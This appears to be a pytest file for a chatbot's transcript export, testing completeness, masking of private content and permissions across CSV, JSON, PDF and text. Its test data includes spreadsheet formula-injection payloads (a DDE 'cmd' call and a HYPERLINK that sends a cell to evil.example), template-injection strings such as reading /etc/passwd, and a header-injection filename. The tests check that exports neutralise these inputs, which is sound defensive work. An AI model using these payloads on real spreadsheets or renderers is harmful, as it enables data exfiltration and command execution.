"""YA-12: transcripts as files. Complete however long, the same in every format, harmless in whatever opens them (X-8)."""

import csv
import io
import json
import re

import pytest
from pypdf import PageObject, PdfReader

from tests.transcripts.house import PRIVATE, SAID, House
from tests.transcripts.test_views import NUMBERED
from transcripts import files, render
from transcripts.events import Button, MessageSent, Numbered, Opened
from transcripts.pdf import as_pdf
from transcripts.state import fold

OPENED = Numbered(1, Opened(at=1_795_219_200_000, bot="bot-1", visitor="v"))
EVIL = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "|calc", "%0A", '=cmd|" /C calc"!A0',
    '=HYPERLINK("https://evil.example/"&A1)',
]  # fmt: skip
MARKUP = [
    "#let x = 3", "*bold* _it_", "= Heading", "$ x^2 $", "#read(\"/etc/passwd\")", "]#panic()[", "\\u{202E}", "`raw`",
    "<label> @ref", "// comment", "/* c */", "#sys.inputs", "{{7*7}} ${7*7} {0.__class__} %s%n",
]  # fmt: skip


def talk(*texts: str, external: bool = False) -> render.Transcript:
    said = [
        Numbered(seq, MessageSent(at=OPENED.event.at + seq * 1_000, by="visitor", text=text))
        for seq, text in enumerate(texts, 2)
    ]
    events = [OPENED, *said]
    make = render.for_address if external else render.for_member
    return make(fold("blue", "c", events), events, "Shop bot")


def rows(transcript: render.Transcript) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files.as_csv(transcript).decode("utf-8-sig"), newline="")))


def text_of(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


def bare(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("text", EVIL)
def test_X_8_no_cell_of_the_table_is_a_formula(text: str) -> None:
    [said] = [row for row in rows(talk(text)) if row["kind"] == "message"]
    assert said["text"][:1] == "'" or said["text"][:1].isalnum() or said["text"] == ""
    assert said["text"].lstrip("'").strip() == "\n".join(render.plain(part) for part in text.splitlines()).strip()


def test_X_8_the_table_is_quoted_and_holds_what_was_said_letter_by_letter() -> None:
    text = 'He said "no", twice;\nthen: yes, maybe\u2028'
    button = Numbered(3, MessageSent(at=OPENED.event.at, by="bot", text="Well?", buttons=(Button("=1", "/x"),)))
    events = [OPENED, Numbered(2, MessageSent(at=OPENED.event.at, by="visitor", text=text)), button]
    made = render.for_member(fold("blue", "c", events), events, "=evil()")
    body = files.as_csv(made)
    assert body.startswith(b'\xef\xbb\xbf"time_utc",')
    assert body.count(b"\r\n") == len(rows(made)) + 1
    found = [row for row in rows(made) if row["kind"] == "message"]
    assert found[0]["text"] == 'He said "no", twice;\nthen: yes, maybe'
    assert (found[1]["name"], found[1]["buttons"]) == ("'=evil()", "'=1")
    assert found[0]["time_utc"] == "2026-11-21T00:00:00Z"


def test_the_name_of_a_file_holds_nothing_that_anybody_wrote() -> None:
    assert files.file_name(talk('../"\r\nSet-Cookie: x'), "pdf") == "transcript-2026-11-21.pdf"


def test_the_json_document_names_its_schema_and_version() -> None:
    document = json.loads(files.as_json(talk("hello")))
    assert (document["schema"], document["version"], document["messages"]) == ("frontdesk.transcript", 1, 1)


def test_MS_10_the_document_of_members_says_where_the_stores_lie_and_that_of_strangers_does_not() -> None:
    stores = {"database": "Frankfurt", "key store": "Hamburg", "mail server": ""}
    assert json.loads(files.as_json(talk("hello"), stores))["stores"] == stores
    masked = render.for_address(fold("blue", "c", NUMBERED), NUMBERED, "Shop bot")
    assert "stores" not in json.loads(files.as_json(masked, stores))


async def test_markup_in_messages_is_text_in_the_pdf() -> None:
    found = bare(text_of(await as_pdf(talk(*MARKUP))))
    for one in MARKUP:
        assert bare(render.plain(one)) in found, one


async def test_scripts_from_right_to_left_and_signs_without_a_letter_do_not_stop_the_pdf() -> None:
    pdf = await as_pdf(
        talk("Привет, Ελλάδα", "مرحبا", "你好", "😀 \u202e \x00 \ud83d".encode("utf-8", "replace").decode())
    )
    assert "Привет,Ελλάδα" in bare(text_of(pdf))


async def test_the_same_transcript_is_the_same_pdf() -> None:
    assert await as_pdf(talk("hello")) == await as_pdf(talk("hello"))


async def test_the_external_pdf_is_masked_and_says_so() -> None:
    masked = render.for_address(fold("blue", "c", NUMBERED), NUMBERED, "Shop bot")
    found = text_of(await as_pdf(masked))
    assert "Read only" in found
    document = json.dumps(masked.views)
    for private in ("note", "@staff"):
        assert private not in document
    assert "Private note" in text_of(await as_pdf(render.for_member(fold("blue", "c", NUMBERED), NUMBERED, "Shop bot")))


def numbers_on(page: PageObject) -> list[int]:
    return [int(number) for number in re.findall(r"m(\d+)\.", bare(page.extract_text()))]


async def test_no_message_is_missing_in_any_format() -> None:
    transcript = talk(*(f"m{number}." for number in range(500)))
    pdf = [number for page in PdfReader(io.BytesIO(await as_pdf(transcript))).pages for number in numbers_on(page)]
    assert pdf == list(range(500))
    for make in (files.as_text, files.as_csv, files.as_json):
        assert [int(n) for n in re.findall(r"m(\d+)\.", make(transcript).decode())] == pdf


@pytest.mark.slow
async def test_ten_thousand_messages_come_out_complete_in_every_format() -> None:
    """To read every page of the PDF back takes a minute, so every twelfth is read: what stands between two of them is
    as much as a page holds, no number is missing on any, and the last one ends with the end."""
    transcript = talk(*(f"m{number}." for number in range(10_000)))
    for make in (files.as_text, files.as_csv, files.as_json):
        assert [int(n) for n in re.findall(r"m(\d+)\.", make(transcript).decode())] == list(range(10_000))
    pages = PdfReader(io.BytesIO(await as_pdf(transcript))).pages
    read = [(at, numbers_on(pages[at])) for at in range(0, len(pages), 12)]
    full = len(read[1][1])
    for at, numbers in read:
        assert numbers == list(range(numbers[0], numbers[0] + len(numbers)))
        assert at == 0 or numbers[0] == len(read[0][1]) + (at - 1) * full
    last = pages[len(pages) - 1]
    assert numbers_on(last)[-1] == 9_999
    assert "Endofthetranscript" in bare(last.extract_text())


# Through the doors


@pytest.mark.parametrize("form", files.FORMATS)
async def test_YA_12_every_file_is_an_attachment_that_no_browser_shows(house: House, form: str) -> None:
    answer = await house.ask(f"{house.path}.{form}", who="ann")
    assert answer.status == 200
    day = files.file_name(talk(), form)[:11]
    assert answer.headers["Content-Disposition"].startswith(f'attachment; filename="{day}')
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"
    assert SAID in (text_of(answer.body) if form == "pdf" else answer.text)


@pytest.mark.parametrize("form", files.FORMATS)
async def test_YA_14_the_file_for_an_address_is_the_external_view(house: House, form: str) -> None:
    await house.allow("shop", "127.0.0.2")
    answer = await house.ask(f"{house.path}.{form}", source="127.0.0.2")
    assert answer.headers["X-Transcript-View"] == "read-only"
    found = bare(text_of(answer.body) if form == "pdf" else answer.text)
    assert SAID in found
    for secret in PRIVATE:
        assert bare(secret) not in found, secret


async def test_YA_12_what_looks_like_a_format_and_is_none_is_an_unknown_link(house: House) -> None:
    for form in ("exe", "PDF", "pdf.", "pdf.txt.exe"):
        answer = await house.ask(f"{house.path}.{form}", who="ann")
        assert answer.status == 403, form


# Without a link


@pytest.mark.parametrize("form", files.FORMATS)
async def test_YA_12_a_member_downloads_without_a_link_by_the_same_guard(house: House, form: str) -> None:
    path = f"/api/conversations/{house.chat}/transcript.{form}"
    answer = await house.ask(path, who="ann")
    assert answer.status == 200
    assert "canary-note" in bare(text_of(answer.body) if form == "pdf" else answer.text)
    last = (await house.book())[-1]
    assert (last.action, last.data["rule"], last.data["format"]) == ("transcript.member", "bot_access", form)

    await house.allow("shop", "127.0.0.2")
    unknown = await house.ask(f"/api/conversations/{'A' * 22}/transcript.{form}", who="bob", source="127.0.0.2")
    for who in ("bob", "ida", "rita"):
        refused = await house.ask(path, who=who, source="127.0.0.2")
        assert (refused.status, refused.body) == (404, unknown.body), who
    assert (await house.ask(path, source="127.0.0.2")).status == 401
    assert (await house.ask(path.replace(f".{form}", ".exe"), who="ann")).status == 422


async def test_M_1_a_member_downloads_no_erased_conversation(house: House) -> None:
    path = f"/api/conversations/{house.chat}/transcript.txt"
    assert (await house.ask(path, who="ann")).status == 200
    await house.conversations.erase(house.accounts["blue"], house.chat)
    assert (await house.ask(path, who="ann")).status == 404


# Permissions


async def permit(house: House, who: str, *, share: bool = True, download: bool = True) -> None:
    await house.admin.people.permit(house.accounts["blue"], house.cast[who].id, share=share, download=download)


async def test_YA_13_without_the_permission_to_download_pages_are_read_and_files_refused(house: House) -> None:
    session = await house.admin.sessions.open(house.cast["ann"])
    assert f"{house.path}.pdf" in (await house.ask(house.path, session=session)).text
    await permit(house, "ann", download=False)
    page = await house.ask(house.path, session=session)
    assert SAID in page.text
    assert f"{house.path}.pdf" not in page.text
    own = f"/api/conversations/{house.chat}/transcript"
    for path in (house.path, own):
        for form in files.FORMATS:
            answer = await house.ask(f"{path}.{form}", session=session)
            assert answer.status == 403
            assert SAID not in answer.text
    last = (await house.book())[-1]
    assert (last.action, last.data["rule"], last.data["by"]) == ("transcript.refused", "no_download", "bot_access")
    await permit(house, "ann", download=True)
    assert (await house.ask(f"{house.path}.txt", session=session)).status == 200


async def test_YA_13_a_listed_address_gives_nobody_logged_in_what_the_permission_takes(house: House) -> None:
    await house.allow("shop", "127.0.0.2")
    await permit(house, "bob", download=False)
    assert (await house.ask(house.path, who="bob", source="127.0.0.2")).status == 200
    assert (await house.ask(f"{house.path}.txt", who="bob", source="127.0.0.2")).status == 403
    assert (await house.ask(f"{house.path}.txt", source="127.0.0.2")).status == 200


async def test_YA_13_without_the_permission_to_share_no_link_is_made_or_revoked(house: House) -> None:
    session = await house.admin.sessions.open(house.cast["ann"])
    path = f"/api/conversations/{house.chat}/links"
    assert (await house.ask(path, session=session, method="POST", json={})).status == 201
    await permit(house, "ann", share=False)
    for refused in (path, f"{path}/revoke", f"/api/links/{house.link}/revoke"):
        assert (await house.ask(refused, session=session, method="POST", json={})).status == 403, refused
    assert (await house.ask(path, session=session)).status == 200
    assert (await house.links.get(house.accounts["blue"], house.link)).revoked_at is None
    assert [one.action for one in await house.book()] == ["link.created"]
